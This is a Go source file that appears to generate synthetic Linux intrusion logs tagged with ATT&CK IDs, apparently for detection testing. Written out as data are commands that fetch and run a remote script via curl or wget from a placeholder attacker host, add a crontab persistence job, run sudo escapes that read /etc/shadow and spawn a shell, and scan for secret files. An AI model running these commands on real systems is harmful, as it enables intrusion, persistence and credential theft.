package logrange

import "time"

// What intruders do on Linux.

func linuxPlants() []Plant {
	return []Plant{
		hostile("ssh-bruteforce", "Passwords tried over SSH from one address, then a hit", "T1110.001 T1078", anyLinux, linuxLogs, sowSSH),
		hostile("sudo-abuse", "sudo used to read secrets and to get a shell", "T1548.003 T1548.001 T1003.008", anyLinux, linuxLogs, sowSudo),
		hostile("cron-persistence", "Crontab of the web server's account fetches a script", "T1053.003", anyLinux, linuxLogs, sowCron),
		hostile("linux-webshell", "Web server starts shells", "T1505.003 T1059.004 T1033 T1082 T1087.001 T1105", onlyWeb, []Format{Auditd, WebAccess}, sowLinuxShell),
		hostile("curl-pipe-sh", "Script fetched and run in one line", "T1105 T1059.004", anyLinux, []Format{Auditd}, sowCurl),
		hostile("web-scan", "One address tries hundreds of paths", "T1595.002 T1595.003", onlyWeb, []Format{WebAccess}, sowScan),
	}
}

func (s *sowing) linux(after time.Duration, techniques, what string, do func(l *linux)) {
	s.onAny(anyLinux, after, techniques, what, func(h *host) { do(h.linux) })
}

func sowSSH(s *sowing) {
	for i := range 40 {
		s.linux(time.Duration(i)*2200*time.Millisecond, "T1110.001", "Failed password over SSH", func(l *linux) {
			l.sshRefused("deploy", true, l.h.raid.spray)
		})
	}
	s.linux(92*time.Second, "T1110.001 T1078", "Accepted password from the address that failed so often", func(l *linux) {
		l.sshSession("deploy", 1007, l.h.raid.spray, "password", "")
	})
}

func sowSudo(s *sowing) {
	for i, c := range []struct {
		exe        string
		args       []string
		techniques string
	}{
		{"/usr/bin/cat", []string{"cat", "/etc/shadow"}, "T1003.008"},
		{"/usr/bin/find", []string{"find", ".", "-exec", "/bin/sh", ";", "-quit"}, "T1548.003"},
		{"/usr/bin/chmod", []string{"chmod", "u+s", "/var/tmp/.bash"}, "T1548.001"},
	} {
		s.linux(time.Duration(i*14)*time.Second, c.techniques, "sudo runs "+c.args[0]+" "+c.args[1], func(l *linux) { l.sudo(l.people[0], c.exe, c.args) })
	}
}

func sowCron(s *sowing) {
	s.linux(0, "T1053.003", "The crontab of www-data is written by the web server's account", func(l *linux) {
		line := `(crontab -l; echo "*/10 * * * * curl -fsSL http://` + l.h.raid.code + `/u | sh") | crontab -`
		pid := l.nextPID()
		l.execute(execution{exe: "/usr/bin/dash", args: []string{"sh", "-c", line}, cwd: "/var/www", uid: 33, auid: 4294967295, ppid: 1190, pid: pid, tty: "(none)"})
		l.execute(execution{exe: "/usr/bin/crontab", args: []string{"crontab", "-"}, cwd: "/var/www", uid: 33, auid: 4294967295, ppid: pid, pid: pid + 1, tty: "(none)"})
		l.auditWrite("/usr/bin/crontab", []string{"crontab", "-"}, "/var/spool/cron/crontabs/tmp.x7Qa1d", "cron", 33, 4294967295, pid, pid+1)
		l.loggedSys(facilityCron, "crontab", pid+1, "(www-data) REPLACE (www-data)")
	})
	s.linux(10*time.Minute, "T1053.003", "The job of www-data runs", func(l *linux) {
		line := "curl -fsSL http://" + l.h.raid.code + "/u | sh"
		pid := l.nextPID()
		l.loggedSys(facilityCron, "CRON", pid, "(www-data) CMD (", line, ")")
		l.execute(execution{exe: "/usr/bin/dash", args: []string{"/bin/sh", "-c", line}, cwd: "/var/www", uid: 33, auid: 33, ppid: pid - 1, pid: pid, tty: "(none)"})
	})
}

func sowLinuxShell(s *sowing) {
	for i, c := range []struct {
		command    string
		exe        string
		args       []string
		techniques string
	}{
		{"id", "/usr/bin/id", []string{"id"}, "T1033"},
		{"uname -a", "/usr/bin/uname", []string{"uname", "-a"}, "T1082"},
		{"cat /etc/passwd", "/usr/bin/cat", []string{"cat", "/etc/passwd"}, "T1087.001"},
		{"wget -q http://" + s.raid.code + "/x -O /tmp/.x", "/usr/bin/wget", []string{"wget", "-q", "http://" + s.raid.code + "/x", "-O", "/tmp/.x"}, "T1105"},
	} {
		after := time.Duration(i*9) * time.Second
		s.on(LinuxWeb, after, "T1505.003", "A command is sent to the web shell", func(h *host) {
			h.linux.log(hit{from: h.raid.entry, method: "POST", path: "/uploads/" + h.raid.shell2 + ".php", agent: "Mozilla/5.0 (Windows NT 6.1; WOW64)", status: 200, size: 240 + 7*i})
		})
		s.on(LinuxWeb, after+50*time.Millisecond, "T1505.003 T1059.004 "+c.techniques, "The web server starts a shell: "+c.command, func(h *host) {
			l := h.linux
			pid := l.nextPID()
			l.execute(execution{exe: "/usr/bin/dash", args: []string{"sh", "-c", c.command}, cwd: "/var/www/html/uploads", uid: 33, auid: 4294967295, ppid: 1190, pid: pid, tty: "(none)"})
			l.execute(execution{exe: c.exe, args: c.args, cwd: "/var/www/html/uploads", uid: 33, auid: 4294967295, ppid: pid, pid: pid + 1, tty: "(none)"})
		})
	}
}

func sowCurl(s *sowing) {
	s.linux(0, "T1105 T1059.004", "A script is fetched and handed to a shell", func(l *linux) {
		line := "curl -s http://" + l.h.raid.code + "/i.sh | bash"
		pid := l.nextPID()
		l.execute(execution{exe: "/usr/bin/bash", args: []string{"bash", "-c", line}, cwd: "/tmp", uid: 1000, auid: 1000, ppid: 2100, pid: pid, tty: "pts1"})
		l.execute(execution{exe: "/usr/bin/curl", args: []string{"curl", "-s", "http://" + l.h.raid.code + "/i.sh"}, cwd: "/tmp", uid: 1000, auid: 1000, ppid: pid, pid: pid + 1, tty: "pts1"})
		l.execute(execution{exe: "/usr/bin/bash", args: []string{"bash"}, cwd: "/tmp", uid: 1000, auid: 1000, ppid: pid, pid: pid + 2, tty: "pts1"})
	})
}

var scanPaths = []string{
	"/.git/config", "/.env", "/wp-login.php", "/phpmyadmin/index.php", "/backup.zip", "/server-status", "/actuator/env", "/cgi-bin/test.cgi", "/admin/config.php", "/.svn/entries",
	"/db.sql", "/config.php.bak", "/solr/admin/info/system", "/console/login/LoginForm.jsp", "/jenkins/script",
}

func sowScan(s *sowing) {
	for i := range 240 {
		s.on(LinuxWeb, time.Duration(i)*400*time.Millisecond, "T1595.002 T1595.003", "A scanner asks for what is not there", func(h *host) {
			path := scanPaths[i%len(scanPaths)]
			if i >= len(scanPaths) {
				path = "/" + letters(h.rand, 7) + path
			}
			h.linux.log(hit{from: h.raid.entry, method: "GET", path: path, agent: "Mozilla/5.0 zgrab/0.x", status: 404, size: 512})
		})
	}
}
